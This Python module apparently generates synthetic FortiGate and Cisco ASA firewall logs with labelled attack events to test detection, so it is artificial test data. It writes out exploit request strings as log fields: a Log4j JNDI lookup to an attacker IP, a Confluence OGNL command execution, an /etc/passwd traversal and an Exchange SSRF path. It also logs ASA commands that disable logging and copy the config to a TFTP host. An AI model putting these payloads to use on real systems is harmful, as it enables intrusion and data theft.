"""A FortiGate towards the internet and an ASA before the servers, in one index.

Daily work: browsing, mail, updates, blocked sites, VPN, what the internet tries all day and is denied, translations and teardowns.
Attacks: a scan, known holes, guessed VPN passwords until one fits, a host that calls home, scans inside and sends out, and a firewall
whose logging is switched off. It is not training material: it was written by a hand that did not know the training scenarios, to see what
the model makes of a site that nobody tuned it for, and what is learned from can no longer tell that.
"""
from __future__ import annotations

import base64
from typing import Any, Optional

from .people import FIRST_NAMES, LAST_NAMES
from .site import Site, epoch, utc

START = epoch(2022, 5, 17)
DAYS = 2
PUBLISHED = "203.0.113.20"
APPS = [("HTTPS.BROWSER", "Web.Client", "elevated"), ("Google.Services", "General.Interest", "elevated"),
        ("Microsoft.Office.365", "Collaboration", "elevated"), ("Microsoft.Outlook.Office.365", "Email", "medium"),
        ("Microsoft.Teams", "Collaboration", "elevated"), ("YouTube", "Video/Audio", "elevated"),
        ("WhatsApp", "Collaboration", "medium"), ("Amazon.AWS", "Cloud.IT", "elevated"), ("MS.Windows.Update", "Update", "elevated"),
        ("DNS", "Network.Service", "elevated"), ("SSL", "Network.Service", "medium"), ("Zoom", "Video/Audio", "elevated"),
        ("Spotify", "Video/Audio", "elevated"), ("Dropbox", "Storage.Backup", "elevated"), ("QUIC", "Network.Service", "low"),
        ("Facebook", "Social.Media", "medium"), ("Adobe.Update", "Update", "elevated"), ("NTP", "Network.Service", "elevated"),
        ("TeamViewer", "Remote.Access", "high"), ("SMTPS", "Email", "medium"), ("GitHub", "Collaboration", "medium")]
COUNTRIES = ["United States", "Ireland", "Netherlands", "Germany", "Sweden", "United Kingdom", "France"]
PORTS = [21, 22, 23, 25, 53, 80, 81, 110, 111, 135, 139, 143, 161, 389, 443, 445, 465, 514, 587, 631, 993, 995, 1080, 1433, 1521, 1723,
         2049, 2375, 3000, 3128, 3306, 3389, 4444, 5000, 5060, 5432, 5601, 5672, 5900, 5985, 6379, 6443, 7001, 8000, 8008, 8080, 8081,
         8088, 8443, 8888, 9000, 9090, 9200, 9300, 10000, 11211, 27017, 50000]


class FirewallEdge(Site):
    """Two firewalls of a company."""

    name = "firewall_edge"
    host = "fw-edge"
    sourcetype = "fortigate_traffic"
    seed = 1414

    def build(self) -> None:
        self.prepare()
        self.browsing()
        self.servers()
        self.scan()
        self.known_holes()
        self.victim_host()
        self.switched_off()

    def fortigate(self, at: float, kind, subtype, fields, level: str = "notice", label: int = 0, group: Optional[str] = None,
                  technique: Optional[str] = None) -> None:
        """One line of the FortiGate."""
        self.serial += 1
        moment_of = utc(at)
        log_id = {"forward": "0000000013", "local": "0001000014", "ips": "0419016384", "webfilter": "0316013056", "virus": "0211008192",
                  "app-ctrl": "1059028704", "system": "0100032002", "user": "0102043008", "vpn": "0101039424"}.get(subtype,
            "0000000013")
        s = (f"<189>date={moment_of.strftime('%Y-%m-%d')} time={moment_of.strftime('%H:%M:%S')}"
             f" devname=\"FGT-HQ-A\" devid=\"FGT60FTK20{'012345'}\" eventtime={int(at * 1000000000.0)} tz=\"+0000\" logid=\""
             f"{log_id}\" type=\"{kind}\" subtype=\"{subtype}\" level=\"{level}\" vd=\"root\" ")
        s += " ".join("{}={}".format(key, value if isinstance(value, (int,)) or key in ("srcip", "dstip", "remip", "tranip", "transip")
                                     else f"\"{value}\"") for key, value in fields)
        self.add(at, s, label, group, technique, "FGT-HQ-A",
                 "fortigate_{}".format({"event": "event", "traffic": "traffic", "utm": "utm"}[kind]))

    def fortigate_event(self, at: float, fields) -> None:
        self.fortigate(at, "event", "vpn" if "SSL" in fields[0][1] else "system", fields, "alert" if "fail" in fields[0][1]
                       else "information")

    def traffic(self, at: float, source, source_port, destination, destination_port, protocol, action, application, sent, received,
                duration=None, policy: int = 12, source_interface: str = "internal", destination_interface: str = "wan1", country=None,
                source_country: str = "Reserved", **more: Any) -> None:
        """One connection through the FortiGate."""
        application_of = application or (None, None, None)
        isin = source_interface == "wan1"
        svc = {443: "HTTPS", 80: "HTTP", 53: "DNS", 123: "NTP", 22: "SSH", 23: "TELNET", 3389: "RDP", 445: "SMB", 25: "SMTP",
               993: "IMAPS", 587: "SMTPS", 21: "FTP"}.get(destination_port, f"{'tcp' if protocol == 6 else 'udp'}/{destination_port}")
        fields = [("srcip", source)] + ([("srcname", self.host_names[source])] if source in self.host_names and self.rng.random() < 0.7
                                        else []) + [("srcport", source_port), ("srcintf", source_interface),
            ("srcintfrole", "wan" if isin else "lan"), ("dstip", destination), ("dstport", destination_port),
            ("dstintf", destination_interface), ("dstintfrole", "lan" if isin or destination_interface != "wan1" else "wan"),
            ("srccountry", source_country), ("dstcountry", country or self.choice(COUNTRIES)),
            ("sessionid", self.rng.randint(10 ** 6, 9 * 10 ** 7)), ("proto", protocol), ("action", action),
            ("policyid", policy if action != "deny" else 0), ("policytype", "policy"),
            ("poluuid", "b8d7e2a2-5f3a-51ec-9c0a-3f2d1c4b7a90"), ("policyname", "LAN-to-Internet" if not isin else "VIP-web"),
            ("service", svc), ("trandisp", "snat" if not isin else "noop")]
        if not isin and action != "deny":
            fields += [("transip", "198.51.100.4"), ("transport", source_port)]
        if application:
            fields += [("appid", self.rng.randint(15000, 45000)), ("app", application_of[0]), ("appcat", application_of[1]),
                       ("apprisk", application_of[2]), ("applist", "default")]
        else:
            fields += [("appcat", "unscanned")]
        fields += [("duration", int(duration if duration is not None else self.rng.expovariate(1 / 40))), ("sentbyte", int(sent)),
                   ("rcvdbyte", int(received)), ("sentpkt", max(1, int(sent / 600))), ("rcvdpkt", int(received / 1100))]
        if action == "deny":
            fields += [("crscore", 30), ("craction", 131072), ("crlevel", "high")]
        self.fortigate(at, "traffic", "forward", fields, "notice" if action != "deny" else "warning", **more)

    def asa(self, at: float, message: str, severity, code, label: int = 0, group: Optional[str] = None,
            technique: Optional[str] = None) -> None:
        """One line of the ASA."""
        self.add(at, f"<{160 + severity}>{utc(at).strftime('%b %d %Y %H:%M:%S')} asa-dmz : %ASA-{severity}-{code}: {message}", label,
                 group, technique, "asa-dmz", "cisco:asa")

    def web(self, at: float, source, host: str, url: str, category, action, label: int = 0, group: Optional[str] = None,
            technique: Optional[str] = None, destination=None) -> None:
        self.fortigate(at, "utm", "webfilter", [("eventtype", "ftgd_allow" if action != "blocked" else "ftgd_blk"), ("policyid", 12),
                                                ("sessionid", self.rng.randint(10 ** 6, 9 * 10 ** 7)), ("srcip", source),
                                                ("srcport", self.rng.randint(49200, 65500)), ("srcintf", "internal"),
                                                ("dstip", destination or self.address()), ("dstport", 443 if self.rng.random() < 0.8
            else 80), ("dstintf", "wan1"), ("proto", 6), ("service", "HTTPS"), ("hostname", host), ("profile", "default"),
                                                ("action", action), ("reqtype", self.choice(["direct", "referral"])), ("url", url),
                                                ("sentbyte", self.rng.randint(200, 3000)), ("rcvdbyte", self.rng.randint(0, 9000)),
                                                ("direction", "outgoing"),
                                                ("msg", f"URL belongs to {'an allowed' if action != 'blocked' else 'a denied'} category in policy"),
                                                ("method", "domain"), ("cat", self.rng.randint(1, 90)), ("catdesc", category)],
                       "notice" if action != "blocked" else "warning", label, group, technique)

    def prepare(self) -> None:
        """Who and what is there."""
        self.serial = 88123000
        self.clients = [f"10.20.{self.rng.randint(1, 4)}.{self.rng.randint(10, 250)}" for _ in range(60)]
        self.host_names = {user: "DESKTOP-" + self.token(7).upper() for user in self.clients}
        self.user_names = {user: self.choice(FIRST_NAMES)[0].upper() + self.choice(LAST_NAMES).upper() for user in self.clients}

    def browsing(self) -> None:
        """Browsing, mail, updates, VPN, blocked sites."""
        for _ in range(1100):
            at = self.moment(START, DAYS)
            user = self.choice(self.clients)
            source_port = self.rng.randint(49200, 65500)
            application_of = self.choice(APPS)
            draw = self.rng.randrange(20)
            if draw < 17:
                self.browsing_traffic(at, user, source_port, application_of, draw)
            else:
                self.browsing_events(at, user, source_port, application_of, draw)

    def browsing_traffic(self, at: float, user: str, source_port: int, application_of, draw: int) -> None:
        """Connections and sites."""
        if draw < 13:
            destination_port = {"DNS": 53, "NTP": 123, "SMTPS": 587, "QUIC": 443}.get(application_of[0],
                self.weighted([(443, 9), (80, 1)]))
            self.traffic(at, user, source_port, self.address() if application_of[0] != "DNS"
                         else self.choice(["8.8.8.8", "1.1.1.1", "9.9.9.9"]), destination_port, 17 if application_of[0] in ("DNS",
                "NTP", "QUIC") else 6, self.weighted([("close", 5), ("accept", 3), ("client-rst", 2), ("server-rst", 1),
                ("timeout", 0.5)]), application_of, self.rng.lognormvariate(7.5, 1.4), self.rng.lognormvariate(9, 2))
        elif draw < 14:
            self.traffic(at, user, source_port, self.address(), self.choice([6881, 5060, 25, 8333, 137, 51413, 445, 4500]),
                         self.choice([6, 17]), "deny", None, 0, 0, 0)
        elif draw < 15:
            self.traffic(at, self.address(), source_port, PUBLISHED, 443, 6, "close", ("HTTPS.BROWSER", "Web.Client", "elevated"),
                         self.rng.randint(700, 9000), self.rng.lognormvariate(9, 1.5), source_interface="wan1",
                         destination_interface="dmz", country="Reserved", source_country=self.choice(COUNTRIES), policy=31)
        else:
            server, c = self.choice([("www.booking.com", "Travel"), ("teams.microsoft.com", "Information Technology"),
                                     ("www.bbc.co.uk", "News and Media"), ("www.bet365.com", "Gambling"),
                                     ("mega.nz", "File Sharing and Storage"), ("wetransfer.com", "File Sharing and Storage"),
                                     ("pastebin.com", "Information Technology"), ("www.reddit.com", "Social Networking"),
                                     ("cdn.jsdelivr.net", "Content Servers"), ("docs.google.com", "Web-based Applications"),
                                     ("www.anydesk.com", "Information Technology"),
                                     ("new-salon-lisburn.co.uk", "Newly Observed Domain"), ("vpn.northwest-partners.com", "Business")])
            self.web(at, user, server,
                     f"https://{server}/{self.choice(['', 'search?q=union+select+committee', 'login', 'api/v1/track?d=' + base64.b64encode(self.rng.randbytes(40)).decode(), 'hotel/gb/premier-inn.en-gb.html?aid=304142', 'r/sysadmin/comments/ux3k/'])}",
                     c, self.choice(["passthrough", "passthrough", "passthrough",
                                     "blocked" if c in ("Gambling", "Newly Observed Domain") else "passthrough"]))

    def browsing_events(self, at: float, user: str, source_port: int, application_of, draw: int) -> None:
        """What the firewall itself says, false alarms, applications."""
        if draw < 18:
            self.fortigate_event(at,
                                 self.choice([[("logdesc", "Admin login successful"), ("sn", str(int(at))), ("user", "fwadmin"),
                                               ("ui", "https(10.20.1.15)"), ("method", "https"), ("srcip", "10.20.1.15"),
                                               ("dstip", "10.20.0.1"), ("action", "login"), ("status", "success"), ("reason", "none"),
                                               ("profile", "super_admin"),
                                               ("msg", "Administrator fwadmin logged in successfully from https(10.20.1.15)")],
                                              [("logdesc", "SSL VPN tunnel up"), ("action", "tunnel-up"), ("tunneltype", "ssl-web"),
                                               ("tunnelid", self.rng.randint(10 ** 6, 10 ** 9)), ("remip", self.address()),
                                               ("user", self.choice(list(self.user_names.values()))), ("group", "VPN-Users"),
                                               ("dst_host", "N/A"), ("reason", "login successfully"),
                                               ("msg", "SSL tunnel established")], [("logdesc", "SSL VPN login fail"),
                ("action", "ssl-login-fail"), ("tunneltype", "ssl-web"), ("tunnelid", 0), ("remip", self.address()),
                ("user", self.choice(list(self.user_names.values()))), ("group", "N/A"), ("dst_host", "N/A"),
                ("reason", "sslvpn_login_permission_denied"), ("msg", "SSL user failed to logged in")],
                                              [("logdesc", "DHCP Ack log"), ("interface", "internal"), ("dhcp_msg", "Ack"),
                                               ("mac", f"3c:52:82:{self.hex(2)}:{self.hex(2)}:{self.hex(2)}"), ("ip", user),
                                               ("lease", 604800), ("hostname", self.host_names[user]),
                                               ("msg", "DHCP server sends a DHCPACK")], [("logdesc", "Object attribute configured"),
                ("user", "fwadmin"), ("ui", "GUI(10.20.1.15)"), ("action", "Edit"), ("cfgtid", self.rng.randint(10 ** 6, 10 ** 9)),
                ("cfgpath", "firewall.address"), ("cfgobj", "grp-saas"), ("cfgattr", "member[o365->o365 zoom]"),
                ("msg", "Edit firewall.address grp-saas")], [("logdesc", "FortiGuard update succeeded"), ("status", "update"),
                ("msg", "Fortigate scheduled update fcni=yes fdni=yes fsci=yes from 173.243.138.98:443")]]))
        elif draw < 19:
            self.fortigate(at, "utm", "ips", [("eventtype", "signature"), ("severity", "low"), ("srcip", "10.20.1.30"),
                                              ("srccountry", "Reserved"), ("dstip", self.choice(self.clients)), ("srcintf", "internal"),
                                              ("dstintf", "internal"), ("sessionid", self.rng.randint(10 ** 6, 9 * 10 ** 7)),
                                              ("action", "detected"), ("proto", 6), ("service", "HTTP"), ("policyid", 44),
                                              ("attack",
                                               self.choice(["Nessus.Scanner", "HTTP.URI.SQL.Injection",
                "Web.Server.Password.Files.Access", "TCP.Split.Handshake"])), ("srcport", source_port),
                                              ("dstport", self.choice([80, 8080, 443])), ("hostname", "10.20.3.8"), ("url", "/"),
                                              ("direction", "outgoing"), ("attackid", self.rng.randint(10000, 50000)),
                                              ("profile", "default"), ("ref", "http://www.fortinet.com/ids/VID12345"),
                                              ("incidentserialno", self.rng.randint(10 ** 7, 10 ** 9)),
                                              ("msg", "applications3: authorised vulnerability scan"), ("crscore", 5),
                                              ("crlevel", "low")], "alert")
        else:
            self.fortigate(at, "utm", "app-ctrl", [("eventtype", "signature"), ("appid", self.rng.randint(15000, 45000)),
                ("srcip", user), ("dstip", self.address()), ("srcport", source_port), ("dstport", 443), ("srcintf", "internal"),
                ("dstintf", "wan1"), ("proto", 6), ("service", "SSL"), ("direction", "outgoing"), ("policyid", 12),
                ("sessionid", self.rng.randint(10 ** 6, 9 * 10 ** 7)), ("applist", "default"),
                ("action", self.choice(["pass", "pass", "block"])), ("appcat", application_of[1]), ("app", application_of[0]),
                ("hostname", f"x.{self.choice(['google.com', 'office.com', 'dropbox.com'])}"),
                ("incidentserialno", self.rng.randint(10 ** 7, 10 ** 9)), ("msg", f"{application_of[1]}: {application_of[0]},"),
                ("apprisk", application_of[2])], "information")

    def servers(self) -> None:
        """What reaches the servers, and what is denied."""
        for _ in range(750):
            at = self.moment(START, DAYS)
            connection = self.rng.randint(10 ** 6, 2 * 10 ** 8)
            draw = self.rng.randrange(20)
            server = self.choice([f"192.168.50.{i}" for i in (10, 11, 12, 20, 25, 30)])
            o = self.address()
            port = self.rng.randint(1024, 65000)
            if draw < 6:
                self.asa(at, "Built {} TCP connection {} for outside:{}/{} ({}/{}) to dmz:{}/{} ({}/{})".format("inbound", connection,
                    o, port, o, port, server, int(q := self.choice([443, 443, 25, 80])), f"198.51.100.{server.split('.')[-1]}", q), 6,
                         302013)
            elif draw < 11:
                self.asa(at, f"Teardown TCP connection {connection} for outside:{o}/{port} to dmz:{server}/{self.choice([443, 25, 80])}"
                         f" duration 0:{self.rng.randint(0, 4):02}:{self.rng.randint(0, 59):02} bytes "
                         f"{int(self.rng.lognormvariate(8, 2))} {self.choice(['TCP FINs', 'TCP FINs', 'TCP Reset-I', 'TCP Reset-O', 'SYN Timeout', 'Connection timeout'])}",
                         6, 302014)
            elif draw < 13:
                self.asa(at,
                         f"Built outbound UDP connection {connection} for outside:{'9.9.9.9'}/53 ({'9.9.9.9'}/53) to dmz:{server}/{port}"
                         f" (198.51.100.4/{port})", 6, 302015)
            elif draw < 15:
                self.asa(at,
                         f"Teardown UDP connection {connection} for outside:9.9.9.9/53 to dmz:{server}/{port} duration 0:00:00 bytes "
                         f"{self.rng.randint(90, 500)}", 6, 302016)
            elif draw == 15:
                self.asa(at, f"Deny tcp src outside:{o}/{port} dst dmz:{server}/{self.choice([22, 23, 8080, 445, 1433])}"
                         " by access-group \"outside_in\" [0x0, 0x0]", 4, 106023)
            elif draw == 16:
                self.asa(at, f"Deny TCP (no connection) from {o}/{port} to 198.51.100.20/443 flags "
                         f"{self.choice(['RST', 'FIN ACK', 'ACK', 'RST ACK'])}  on interface outside", 6, 106015)
            elif draw == 17:
                self.asa(at, self.choice(["User 'netops' executed the 'show running-config' command.",
                                          "User 'netops' executed the 'write memory' command.",
                                          "User 'netops' executed the 'show conn count' command.",
                                          "User 'netops' executed the 'show interface ip brief' command."]), 5, 111008)
            elif self.rng.random() < 0.3:
                self.asa(at, f"Login permitted from 10.20.1.15/{port} to inside:10.20.0.2/ssh for user \"netops\"", 6, 605005)
            elif draw == 18:
                self.asa(at, "Group <AnyConnect_GP> User <{}> IP <{}> {}".format(self.choice(list(self.user_names.values())).lower(), o,
                    self.choice(["TCP SVC connection established without compression",
                                 "UDP SVC connection terminated without compression",
                                 "First TCP SVC connection established for SVC session.",
                                 f"Address <10.99.0.{self.rng.randint(2, 200)}> assigned to session"])), 6, 722022)
            else:
                self.asa(at, f"AAA user authentication {self.choice(['Successful', 'Successful', 'Rejected : reason = AAA failure'])}"
                         f" : server =  10.20.0.10 : user = {self.choice(list(self.user_names.values())).lower()}{''}", 6, 113004)

    def scan(self) -> None:
        """A scan, fast and then slow."""
        at = START + 86400 + 2 * 3600
        for port in self.rng.sample(PORTS, 55):
            at += self.rng.random() * 0.3
            self.asa(at, f"Deny tcp src outside:45.146.164.110/{self.rng.randint(40000, 60000)} dst dmz:192.168.50.20/{port}"
                     " by access-group \"outside_in\" [0x0, 0x0]", 1 and 4, 106023, 1, "port_scan", "T1046")
        for _ in range(30):
            at += self.rng.uniform(100, 900)
            port = self.choice(PORTS)
            self.asa(at,
                     'Deny tcp src outside:{}/{} dst dmz:192.168.50.{}/{} by access-group "outside_in" [0x0, 0x0]'.format(f"92.63.197.{self.rng.randint(20, 90)}",
                self.rng.randint(40000, 60000), self.rng.choice([10, 11, 12, 20]), port), 4, 106023, 1, "slow_scan", "T1595.001")

    def known_holes(self) -> None:
        """Known holes, and guessed VPN passwords until one fits."""
        at = START + 86400 + 5 * 3600
        for signature, user, severity_name in [("Apache.Log4j.Error.Log.Remote.Code.Execution",
                                                "/?x=${jndi:ldap://45.146.164.110:1389/a}", "critical"),
                                               ("PHPUnit.Eval-stdin.PHP.Remote.Code.Execution",
                                                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "high"),
                                               ("MS.Exchange.Server.Autodiscover.Remote.Code.Execution",
                                                "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/", "critical"),
                                               ("F5.BIG-IP.iControl.REST.Authentication.Bypass", "/mgmt/tm/util/bash", "critical"),
                                               ("ThinkPHP.Controller.Parameter.Remote.Code.Execution",
                                                r"/index.php?s=/Index/\think\app/invokefunction", "high"),
                                               ("Atlassian.Confluence.OGNL.Remote.Code.Execution",
                                                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29",
                                                "critical"), ("Web.Server.Password.Files.Access", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
            "high")] * 4:
            at += self.rng.uniform(1, 200)
            self.fortigate(at, "utm", "ips", [("eventtype", "signature"), ("severity", severity_name),
                                              ("srcip", self.choice(["45.146.164.110", "141.98.83.139", "194.31.98.186"])),
                                              ("srccountry", self.choice(["Russian Federation", "Netherlands", "Bulgaria"])),
                                              ("dstip", PUBLISHED), ("srcintf", "wan1"), ("dstintf", "dmz"),
                                              ("sessionid", self.rng.randint(10 ** 6, 9 * 10 ** 7)),
                                              ("action", self.choice(["dropped", "detected", "reset"])), ("proto", 6),
                                              ("service", "HTTP"), ("policyid", 31), ("attack", signature),
                                              ("srcport", self.rng.randint(40000, 60000)), ("dstport", self.choice([80, 443, 8443])),
                                              ("hostname", "203.0.113.20"), ("url", user), ("direction", "incoming"),
                                              ("attackid", self.rng.randint(10000, 52000)), ("profile", "protect_http_server"),
                                              ("ref", f"http://www.fortinet.com/ids/VID{self.rng.randint(10000, 52000)}"),
                                              ("incidentserialno", self.rng.randint(10 ** 7, 10 ** 9)),
                                              ("msg", f"web_app3: {signature},"), ("crscore", 50), ("crlevel", "critical")], "alert", 1,
                           "exploit_traffic", "T1190")
        for _ in range(40):
            at += self.rng.expovariate(1 / 8)
            self.fortigate(at, "event", "vpn", [("logdesc", "SSL VPN login fail"), ("action", "ssl-login-fail"),
                                                ("tunneltype", "ssl-web"), ("tunnelid", 0),
                                                ("remip", f"185.220.102.{self.rng.randint(240, 254)}"),
                                                ("user", self.choice(["admin", "test", "vpnuser", "guest", "support", "fortinet",
                "administrator", "sslvpn", "backup"] + list(self.user_names.values())[:6])), ("group", "N/A"), ("dst_host", "N/A"),
                                                ("reason",
                self.choice(["sslvpn_login_unknown_user", "sslvpn_login_permission_denied"])), ("msg", "SSL user failed to logged in")],
                           "alert", 1, "vpn_bruteforce", "T1110")
        self.fortigate(at + 9, "event", "vpn", [("logdesc", "SSL VPN tunnel up"), ("action", "tunnel-up"), ("tunneltype", "ssl-tunnel"),
                                                ("tunnelid", self.rng.randint(10 ** 6, 10 ** 9)), ("remip", "185.220.102.243"),
                                                ("tunnelip", "10.212.134.200"), ("user", "backup"), ("group", "VPN-Users"),
                                                ("dst_host", "N/A"), ("reason", "tunnel established"),
                                                ("msg", "SSL tunnel established")], "information", 1, "vpn_bruteforce", "T1133")

    def victim_host(self) -> None:
        """A host calls home, scans inside, and sends out."""
        victim = self.clients[5]
        self.at = START + 86400 + 8 * 3600
        for _ in range(48):
            self.at += 600 * (1 + self.rng.uniform(-0.05, 0.05))
            self.traffic(self.at, victim, self.rng.randint(49200, 65500), "91.92.109.44", 443, 6, self.choice(["close", "server-rst"]),
                         ("SSL", "Network.Service", "medium"), self.rng.randint(1180, 1320), self.rng.randint(2400, 2600),
                         self.rng.randint(1, 3), country="Bulgaria", label=1, group="c2_beacon", technique="T1071.001")
        self.at = START + 86400 + 13 * 3600
        for _ in range(45):
            self.at += self.rng.uniform(0.2, 9)
            self.traffic(self.at, victim, self.rng.randint(49200, 65500), f"10.20.{self.rng.randint(1, 4)}.{self.rng.randint(1, 250)}",
                         self.choice([445, 445, 3389, 22, 5985]), 6, self.choice(["deny", "timeout", "close", "server-rst"]), None,
                         self.rng.choice([52, 104, 156]), self.rng.choice([0, 0, 40]), self.rng.randint(0, 10),
                         source_interface="internal", destination_interface="servers", country="Reserved", label=1,
                         group="internal_scan", technique="T1046")
        for _ in range(9):
            self.at += 300
            self.traffic(self.at, victim, self.rng.randint(49200, 65500), self.choice(["31.216.145.5", "89.44.169.135"]), 443, 6,
                         "close", ("Mega", "Storage.Backup", "high") if self.rng.random() < 0.5
                         else ("SSL", "Network.Service", "medium"), self.rng.uniform(300000000.0, 4000000000.0),
                         self.rng.uniform(1000000.0, 20000000.0), self.rng.randint(200, 3000), country="Luxembourg", label=1,
                         group="exfil", technique="T1567.002")

    def switched_off(self) -> None:
        """A firewall is told to be quiet."""
        for text in ["User 'netops' executed the 'no logging enable' command.",
                     "User 'netops' executed the 'access-list outside_in line 1 extended permit ip any any' command.",
                     "User 'enable_15' executed the 'username svc password * privilege 15' command.",
                     "User 'netops' executed the 'copy running-config tftp://45.146.164.110/c' command."]:
            self.at += 20
            self.asa(self.at, text, 5, 111008, 1, "device_tamper", "T1562.004")
